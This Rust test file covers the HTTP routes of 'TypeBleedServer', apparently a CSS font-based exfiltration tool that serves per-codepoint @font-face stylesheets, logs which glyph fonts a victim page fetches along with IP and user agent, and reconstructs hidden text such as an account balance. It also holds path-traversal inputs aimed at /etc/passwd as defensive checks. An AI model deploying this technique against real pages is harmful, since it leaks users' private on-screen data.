//! # Transport Layer Tests: TypeBleedServer routes
//!
//! Drives a real listener on an ephemeral port with an HTTP client: session
//! creation, stylesheet, capture ingress, asset routes, the read API, the
//! journal export and graceful shutdown.

use reqwest::header::{CACHE_CONTROL, CONTENT_TYPE};
use reqwest::{Client, StatusCode};
use serde_json::Value;
use std::io::Cursor;
use std::net::SocketAddr;
use std::time::{Duration, Instant};
use tokio::net::TcpStream;
use tokio::sync::oneshot;
use tokio::task::JoinHandle;
use typebleed_core::journal::replay;
use typebleed_core::{Result, SessionStore, TypeBleedConfig};
use typebleed_transport::{AppState, CreatedSession, SessionList, TypeBleedServer};

struct Running {
    base: String,
    addr: SocketAddr,
    client: Client,
    state: AppState,
    stop: oneshot::Sender<()>,
    handle: JoinHandle<Result<()>>,
}

impl Running {
    fn url(&self, path: &str) -> String {
        format!("{}{}", self.base, path)
    }

    async fn get(&self, path: &str) -> reqwest::Response {
        self.client.get(self.url(path)).send().await.unwrap()
    }

    async fn stop(self) {
        self.stop.send(()).unwrap();
        self.handle.await.unwrap().unwrap();
    }
}

fn config_with_template() -> TypeBleedConfig {
    TypeBleedConfig::from_toml_str(
        r#"
[capture]
sweep_interval_ms = 50

[[templates]]
name = "balance"
static_characters = "Balance: "

[[templates.slots]]
name = "amount"
pattern = "€ddd.dd"
"#,
    )
    .unwrap()
}

async fn start(config: TypeBleedConfig) -> Running {
    let server = TypeBleedServer::from_config(&config)
        .unwrap()
        .with_addr("127.0.0.1:0".parse().unwrap());
    let listener = server.bind().unwrap();
    let addr = listener.local_addr().unwrap();
    let state = server.state().clone();
    let (stop, stopped) = oneshot::channel::<()>();
    let handle = tokio::spawn(server.serve(listener, async {
        let _ = stopped.await;
    }));
    // No idle pooling, so shutdown never waits on a kept-alive connection.
    let client = Client::builder()
        .user_agent("typebleed-test")
        .pool_max_idle_per_host(0)
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap();
    Running {
        base: format!("http://{}", addr),
        addr,
        client,
        state,
        stop,
        handle,
    }
}

async fn new_session(server: &Running) -> CreatedSession {
    let response = server.client.post(server.url("/api/sessions")).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);
    response.json().await.unwrap()
}

/// Capture, list, inspect, reconstruct and reset one session end to end.
#[tokio::test]
async fn test_capture_and_reconstruction_flow() {
    let t = Instant::now();
    let server = start(config_with_template()).await;

    let created = new_session(&server).await;
    let sid = created.session_id.to_string();
    assert_eq!(created.stylesheet, format!("/css/exfil/{}", sid));

    for ident in ["0042", "0061", "20AC", "0031", "0032", "0038", "002E"] {
        let response = server.get(&format!("/fonts/t/{}/{}.woff2", sid, ident)).await;
        assert_eq!(
            response.status(),
            StatusCode::NO_CONTENT,
            "No fonts_dir configured means an empty success"
        );
    }
    let repeat = server.get(&format!("/fonts/t/{}/0031.woff2?x=1", sid)).await;
    assert_eq!(repeat.status(), StatusCode::NO_CONTENT);

    let unknown_cp = server.get(&format!("/fonts/t/{}/E000.woff2", sid)).await;
    assert_eq!(unknown_cp.status(), StatusCode::NOT_FOUND, "U+E000 is not in the alphabet");
    let unknown_sid = server.get("/fonts/t/nosuchsession/0031.woff2").await;
    assert_eq!(unknown_sid.status(), StatusCode::NOT_FOUND);

    let list: SessionList = server.get("/api/sessions").await.json().await.unwrap();
    assert_eq!(list.total_sessions, 1);
    assert_eq!(list.active_sessions, 1);
    assert_eq!(list.unique_ips, 1, "Every capture came from loopback");
    assert_eq!(list.total_captures, 8, "Duplicates are journalled, rejections are not");
    let summary = &list.sessions[0];
    assert_eq!(summary.char_count, 7);
    assert_eq!(summary.remote_addr.as_deref(), Some("127.0.0.1"));
    assert_eq!(summary.user_agent.as_deref(), Some("typebleed-test"));

    let detail = server.get(&format!("/api/sessions/{}", sid)).await;
    assert_eq!(detail.status(), StatusCode::OK);
    let detail: Value = detail.json().await.unwrap();
    assert_eq!(detail["session"]["captured"].as_object().unwrap().len(), 7);
    assert!(!detail["buckets"].as_array().unwrap().is_empty());

    let result = server
        .get(&format!("/api/sessions/{}/reconstruction?template=balance", sid))
        .await;
    assert_eq!(result.status(), StatusCode::OK);
    let result: Value = result.json().await.unwrap();
    assert_eq!(result["template"], "balance");
    assert_eq!(result["dynamic_text"], ".128€");
    assert_eq!(result["truncated"], true);
    assert_eq!(result["candidates"].as_array().unwrap().len(), 100);

    let missing = server
        .get(&format!("/api/sessions/{}/reconstruction?template=nope", sid))
        .await;
    assert_eq!(missing.status(), StatusCode::NOT_FOUND);
    let missing: Value = missing.json().await.unwrap();
    assert!(missing["error"].as_str().unwrap().contains("nope"));

    let log: Value = server.get("/api/log?since=6").await.json().await.unwrap();
    assert_eq!(log["total"], 8);
    assert_eq!(log["entries"].as_array().unwrap().len(), 2);
    assert_eq!(log["entries"][1]["character"], "1");

    let session_url = server.url(&format!("/api/sessions/{}", sid));
    let first = server.client.delete(&session_url).send().await.unwrap();
    assert_eq!(first.status(), StatusCode::NO_CONTENT);
    let second = server.client.delete(&session_url).send().await.unwrap();
    assert_eq!(second.status(), StatusCode::NOT_FOUND);
    assert_eq!(server.get(&format!("/api/sessions/{}", sid)).await.status(), StatusCode::NOT_FOUND);

    server.stop().await;

    let overhead = t.elapsed();
    println!("test_capture_and_reconstruction_flow: Testing Overhead = {:?}", overhead);
}

/// The JSON-lines export replays into the same captures the live store holds.
#[tokio::test]
async fn test_journal_export_replays_live_sessions() {
    let t = Instant::now();
    let server = start(config_with_template()).await;

    let a = new_session(&server).await.session_id;
    let b = new_session(&server).await.session_id;
    for (sid, idents) in [(&a, ["0031", "0032", "0031"]), (&b, ["0041", "20AC", "002E"])] {
        for ident in idents {
            let response = server.get(&format!("/fonts/t/{}/{}.woff2", sid, ident)).await;
            assert_eq!(response.status(), StatusCode::NO_CONTENT);
        }
    }

    let export = server.get("/api/log.jsonl").await;
    assert_eq!(export.status(), StatusCode::OK);
    assert_eq!(
        export.headers().get(CONTENT_TYPE).unwrap(),
        "application/x-ndjson"
    );
    assert_eq!(export.headers().get(CACHE_CONTROL).unwrap(), "no-store");
    let body = export.text().await.unwrap();
    assert_eq!(body.lines().count(), 6, "One line per journalled capture");

    let rebuilt = SessionStore::new(Duration::from_secs(3600));
    let applied = replay(Cursor::new(body), &server.state.pipeline.registry, &rebuilt).unwrap();
    assert_eq!(applied, 6);
    assert_eq!(rebuilt.len(), 2);

    for sid in [&a, &b] {
        let live = server.state.pipeline.store.snapshot(sid).unwrap();
        let offline = rebuilt.snapshot(sid).unwrap();
        assert_eq!(offline.captured, live.captured, "Replay diverged for {}", sid);
        assert_eq!(offline.client.remote_addr.as_deref(), Some("127.0.0.1"));
    }

    server.stop().await;

    let overhead = t.elapsed();
    println!("test_journal_export_replays_live_sessions: Testing Overhead = {:?}", overhead);
}

/// The stylesheet names one rule per codepoint and is never cached.
#[tokio::test]
async fn test_stylesheet_route() {
    let server = start(TypeBleedConfig::default()).await;
    let created = new_session(&server).await;

    let css = server.get(&created.stylesheet).await;
    assert_eq!(css.status(), StatusCode::OK);
    assert_eq!(css.headers().get(CACHE_CONTROL).unwrap(), "no-store");
    assert!(css
        .headers()
        .get(CONTENT_TYPE)
        .unwrap()
        .to_str()
        .unwrap()
        .starts_with("text/css"));
    let body = css.text().await.unwrap();
    let sid = created.session_id.to_string();
    assert!(body.contains(&format!("src: url('/fonts/t/{}/0041.woff2') format('woff2');", sid)));
    assert!(body.contains("unicode-range: U+0020; /* ␣ */"));
    assert_eq!(body.matches("@font-face").count(), server.state.pipeline.registry.len());

    let unknown = server.get("/css/exfil/nosuchsession").await;
    assert_eq!(unknown.status(), StatusCode::NOT_FOUND);

    server.stop().await;
}

/// `/` creates a session and substitutes it into the configured page.
#[tokio::test]
async fn test_index_page_substitution() {
    let dir = tempfile::tempdir().unwrap();
    let page = dir.path().join("index.html");
    std::fs::write(
        &page,
        "<link href=\"/css/exfil/{{ session_id }}\"><p>{{ session_id_short }}</p>",
    )
    .unwrap();

    let mut config = TypeBleedConfig::default();
    config.server.page = Some(page);
    let server = start(config).await;

    let response = server.get("/").await;
    assert_eq!(response.status(), StatusCode::OK);
    let ids = server.state.pipeline.store.ids();
    assert_eq!(ids.len(), 1, "Each page load creates exactly one session");
    let sid = &ids[0];
    assert_eq!(
        response.text().await.unwrap(),
        format!("<link href=\"/css/exfil/{}\"><p>{}</p>", sid, sid.short())
    );

    server.stop().await;
}

#[tokio::test]
async fn test_index_fallback_page() {
    let server = start(TypeBleedConfig::default()).await;
    let response = server.get("/").await;
    assert_eq!(response.status(), StatusCode::OK);
    let sid = server.state.pipeline.store.ids().pop().unwrap();
    let body = response.text().await.unwrap();
    assert!(body.contains(&format!("href=\"/css/exfil/{}\"", sid)));

    server.stop().await;
}

/// A present font file is served as-is; an absent one is an empty 204.
#[tokio::test]
async fn test_font_file_serving() {
    let fonts = tempfile::tempdir().unwrap();
    std::fs::write(fonts.path().join("0041.woff2"), b"wOF2-glyph-A").unwrap();

    let mut config = TypeBleedConfig::default();
    config.server.fonts_dir = Some(fonts.path().to_path_buf());
    let server = start(config).await;
    let sid = new_session(&server).await.session_id;

    let served = server.get(&format!("/fonts/t/{}/0041.woff2", sid)).await;
    assert_eq!(served.status(), StatusCode::OK);
    assert_eq!(served.headers().get(CONTENT_TYPE).unwrap(), "font/woff2");
    assert_eq!(served.bytes().await.unwrap().as_ref(), b"wOF2-glyph-A");

    let absent = server.get(&format!("/fonts/t/{}/0042.woff2", sid)).await;
    assert_eq!(absent.status(), StatusCode::NO_CONTENT);
    assert!(absent.bytes().await.unwrap().is_empty());

    let session = server.state.pipeline.store.snapshot(&sid).unwrap();
    assert_eq!(session.len(), 2, "Both fetches were captured");

    server.stop().await;
}

/// `/fonts/char/<file>` serves the same glyphs without recording anything.
#[tokio::test]
async fn test_untracked_font_route() {
    let fonts = tempfile::tempdir().unwrap();
    std::fs::write(fonts.path().join("0041.woff2"), b"wOF2-glyph-A").unwrap();
    let outside = tempfile::NamedTempFile::new().unwrap();

    let mut config = TypeBleedConfig::default();
    config.server.fonts_dir = Some(fonts.path().to_path_buf());
    let server = start(config).await;
    let sid = new_session(&server).await.session_id;

    let served = server.get("/fonts/char/0041.woff2").await;
    assert_eq!(served.status(), StatusCode::OK);
    assert_eq!(served.headers().get(CONTENT_TYPE).unwrap(), "font/woff2");
    assert_eq!(served.bytes().await.unwrap().as_ref(), b"wOF2-glyph-A");

    assert_eq!(server.get("/fonts/char/0042.woff2").await.status(), StatusCode::NOT_FOUND);
    let escape = format!("/fonts/char/..%2F{}", outside.path().file_name().unwrap().to_str().unwrap());
    assert_eq!(
        server.get(&escape).await.status(),
        StatusCode::NOT_FOUND,
        "Encoded separators must not leave fonts_dir"
    );

    assert!(server.state.pipeline.store.snapshot(&sid).unwrap().is_empty());
    assert_eq!(server.state.pipeline.journal.total(), 0, "Untracked fetches are not journalled");

    server.stop().await;
}

/// `/static/<path>` serves nested files from static_dir and nothing outside it.
#[tokio::test]
async fn test_static_asset_route() {
    let t = Instant::now();
    let root = tempfile::tempdir().unwrap();
    let assets = root.path().join("assets");
    std::fs::create_dir(&assets).unwrap();
    std::fs::write(assets.join("demo.css"), "body { color: red; }").unwrap();
    std::fs::create_dir(assets.join("img")).unwrap();
    std::fs::write(assets.join("img").join("dot.svg"), "<svg/>").unwrap();
    std::fs::write(root.path().join("secret.txt"), "outside").unwrap();

    let mut config = TypeBleedConfig::default();
    config.server.static_dir = Some(assets);
    let server = start(config).await;

    let css = server.get("/static/demo.css").await;
    assert_eq!(css.status(), StatusCode::OK);
    assert_eq!(css.headers().get(CONTENT_TYPE).unwrap(), "text/css; charset=utf-8");
    assert_eq!(css.text().await.unwrap(), "body { color: red; }");

    let svg = server.get("/static/img/dot.svg").await;
    assert_eq!(svg.status(), StatusCode::OK);
    assert_eq!(svg.headers().get(CONTENT_TYPE).unwrap(), "image/svg+xml");

    for path in [
        "/static/missing.css",
        "/static/..%2Fsecret.txt",
        "/static/img/..%2F..%2Fsecret.txt",
        "/static/%2Fetc%2Fpasswd",
    ] {
        assert_eq!(server.get(path).await.status(), StatusCode::NOT_FOUND, "{} escaped", path);
    }

    server.stop().await;

    let overhead = t.elapsed();
    println!("test_static_asset_route: Testing Overhead = {:?}", overhead);
}

#[tokio::test]
async fn test_static_route_without_directory() {
    let server = start(TypeBleedConfig::default()).await;
    assert_eq!(server.get("/static/demo.css").await.status(), StatusCode::NOT_FOUND);
    assert_eq!(server.get("/fonts/char/0041.woff2").await.status(), StatusCode::NOT_FOUND);
    server.stop().await;
}

/// Shutdown stops serving and tears the store down.
#[tokio::test]
async fn test_graceful_shutdown_tears_down_store() {
    let t = Instant::now();
    let server = start(TypeBleedConfig::default()).await;
    new_session(&server).await;
    new_session(&server).await;
    assert_eq!(server.state.pipeline.store.len(), 2);

    let addr = server.addr;
    let state = server.state.clone();
    server.stop().await;
    assert!(state.pipeline.store.is_empty(), "Teardown must drop every session");
    assert!(TcpStream::connect(addr).await.is_err(), "Listener still accepting");

    let overhead = t.elapsed();
    println!("test_graceful_shutdown_tears_down_store: Testing Overhead = {:?}", overhead);
}
